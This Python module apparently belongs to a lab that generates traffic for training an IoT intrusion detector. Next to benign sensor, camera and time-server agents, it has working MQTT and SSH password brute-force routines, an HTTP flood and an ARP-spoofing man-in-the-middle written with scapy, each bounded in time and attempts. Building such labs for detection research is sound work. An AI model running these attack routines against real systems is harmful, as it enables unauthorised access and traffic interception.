"""The programs the lab runs inside its hosts' namespaces:
``python -m iotids.lab.agents ROLE [options]``.

Benign: ``sensor`` (MQTT telemetry at a jittered rate; camera snapshots and
status polls over HTTP; UDP time queries), ``camera`` (an HTTP server),
``time-server`` (answers the time queries). Attacks, each bounded
in time and in attempts: ``mqtt-bruteforce``, ``ssh-bruteforce`` (the OpenSSH
client), ``http-flood``, ``arp-spoof``.
Scans and packet floods use nmap and hping3 directly (see scenarios.py).
"""

from __future__ import annotations

import argparse
import json
import random
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def sensor(args: argparse.Namespace) -> None:
    import paho.mqtt.client as mqtt

    rng = random.Random(args.seed)
    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=args.name)
    client.username_pw_set(args.user, args.password)
    client.connect(args.broker, 1883, keepalive=30)
    client.loop_start()
    client.subscribe(f"sensors/{args.name}/cmd")
    # Besides the one long MQTT session: camera snapshots and status polls over
    # short HTTP connections, and small UDP time queries, each at its own jittered pace.
    due = {"snapshot": time.monotonic() + rng.uniform(2, 6), "status": time.monotonic() + rng.uniform(0, 2),
           "time": time.monotonic() + rng.uniform(0, 3)}
    while True:
        reading = {"sensor": args.name, "t": round(time.time(), 3), "temperature": round(rng.gauss(21, 2), 2),
                   "humidity": round(rng.gauss(45, 5), 1), "battery": round(rng.uniform(60, 100), 1)}
        client.publish(f"sensors/{args.name}/telemetry", json.dumps(reading), qos=rng.choice((0, 1)))
        now = time.monotonic()
        if args.camera and now >= due["snapshot"]:
            _get(f"http://{args.camera}/snapshot.jpg")
            due["snapshot"] = now + rng.uniform(4, 10)
        if args.camera and now >= due["status"]:
            _get(f"http://{args.camera}/status")
            due["status"] = now + rng.uniform(1, 3)
        if args.time_server and now >= due["time"]:
            _time_query(args.time_server)
            due["time"] = now + rng.uniform(2, 4)
        time.sleep(max(0.05, rng.gauss(args.interval, args.interval / 4)))


def _get(url: str) -> None:
    try:
        with urllib.request.urlopen(url, timeout=3) as answer:
            answer.read()
    except OSError:
        pass


def _time_query(server: str) -> None:
    """An NTP-sized request and its answer, from a fresh source port."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1.0)
        try:
            sock.sendto(b"\x1b" + bytes(47), (server, 123))
            sock.recvfrom(512)
        except OSError:
            pass


def time_server(args: argparse.Namespace) -> None:
    """Answers every 48-byte request with 48 bytes (the shape of NTP, not its content)."""
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind(("0.0.0.0", 123))
        while True:
            data, peer = sock.recvfrom(512)
            sock.sendto(b"\x1c" + bytes(47), peer)


def camera(args: argparse.Namespace) -> None:
    rng = random.Random(args.seed)
    frames = [rng.randbytes(rng.randint(20_000, 60_000)) for _ in range(4)]

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 -- the http.server API
            body = rng.choice(frames) if self.path.startswith("/snapshot") else b'{"status":"ok"}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    ThreadingHTTPServer(("0.0.0.0", args.port), Handler).serve_forever()


def mqtt_bruteforce(args: argparse.Namespace) -> None:
    """Guess passwords: one connection per guess, as brute-force tools do."""
    import paho.mqtt.client as mqtt

    rng = random.Random(args.seed)
    deadline = time.monotonic() + args.seconds
    for attempt in range(args.attempts):
        if time.monotonic() >= deadline:
            break
        client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id=f"guess{attempt}")
        client.username_pw_set(args.user, f"pw{rng.randrange(10**6):06d}")
        try:
            client.connect(args.broker, 1883, keepalive=5)
            client.loop(timeout=0.5)
            client.loop(timeout=0.5)
        except OSError:
            pass
        finally:
            client.disconnect()
        time.sleep(args.pause)


def ssh_bruteforce(args: argparse.Namespace) -> None:
    """Guess passwords with the real OpenSSH client, one connection per guess."""
    import os
    import stat
    import subprocess
    import tempfile

    rng = random.Random(args.seed)
    deadline = time.monotonic() + args.seconds
    with tempfile.TemporaryDirectory() as scratch:
        askpass = os.path.join(scratch, "askpass")
        with open(askpass, "w") as handle:
            handle.write('#!/bin/sh\necho "$IOTIDS_GUESS"\n')
        os.chmod(askpass, stat.S_IRWXU)
        for _ in range(args.attempts):
            if time.monotonic() >= deadline:
                break
            env = {**os.environ, "SSH_ASKPASS": askpass, "SSH_ASKPASS_REQUIRE": "force",
                   "IOTIDS_GUESS": f"pw{rng.randrange(10**6):06d}"}
            subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                            "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1",
                            "-o", "ConnectTimeout=3", "-o", "LogLevel=QUIET", f"{args.user}@{args.target}", "true"],
                           env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=10, check=False)
            time.sleep(args.pause)


def http_flood(args: argparse.Namespace) -> None:
    deadline = time.monotonic() + args.seconds
    for _ in range(args.attempts):
        if time.monotonic() >= deadline:
            break
        try:
            with urllib.request.urlopen(f"http://{args.target}/status", timeout=2) as answer:
                answer.read()
        except OSError:
            pass


def arp_spoof(args: argparse.Namespace) -> None:
    """Tell the victim that each target's address is at our MAC, and each target
    the same of the victim (a man in the middle; the lab enables forwarding)."""
    from scapy.all import ARP, Ether, sendp

    deadline = time.monotonic() + args.seconds
    packets = []
    for target in args.target:
        address, target_mac = target.split(",")
        packets += [Ether(dst=args.victim_mac) / ARP(op=2, psrc=address, pdst=args.victim, hwdst=args.victim_mac),
                    Ether(dst=target_mac) / ARP(op=2, psrc=args.victim, pdst=address, hwdst=target_mac)]
    while time.monotonic() < deadline:
        sendp(packets, iface="eth0", verbose=False)
        time.sleep(0.5)


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m iotids.lab.agents")
    roles = parser.add_subparsers(dest="role", required=True)
    p = roles.add_parser("sensor")
    p.add_argument("--name", required=True)
    p.add_argument("--broker", required=True)
    p.add_argument("--user", required=True)
    p.add_argument("--password", required=True)
    p.add_argument("--camera", default="")
    p.add_argument("--time-server", default="")
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--seed", type=int, default=0)
    roles.add_parser("time-server")
    p = roles.add_parser("camera")
    p.add_argument("--port", type=int, default=80)
    p.add_argument("--seed", type=int, default=0)
    for name in ("mqtt-bruteforce", "ssh-bruteforce", "http-flood"):
        p = roles.add_parser(name)
        p.add_argument("--seconds", type=float, required=True)
        p.add_argument("--attempts", type=int, required=True)
        p.add_argument("--seed", type=int, default=0)
        if name == "mqtt-bruteforce":
            p.add_argument("--broker", required=True)
        else:
            p.add_argument("--target", required=True)
        if name != "http-flood":
            p.add_argument("--user", required=True)
            p.add_argument("--pause", type=float, default=0.05)
    p = roles.add_parser("arp-spoof")
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--victim", required=True)
    p.add_argument("--victim-mac", required=True)
    p.add_argument("--target", action="append", required=True, help="ADDRESS,MAC of a host to impersonate")
    args = parser.parse_args()
    handlers = {"sensor": sensor, "camera": camera, "time-server": time_server, "mqtt-bruteforce": mqtt_bruteforce,
                "ssh-bruteforce": ssh_bruteforce, "http-flood": http_flood, "arp-spoof": arp_spoof}
    try:
        handlers[args.role](args)
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
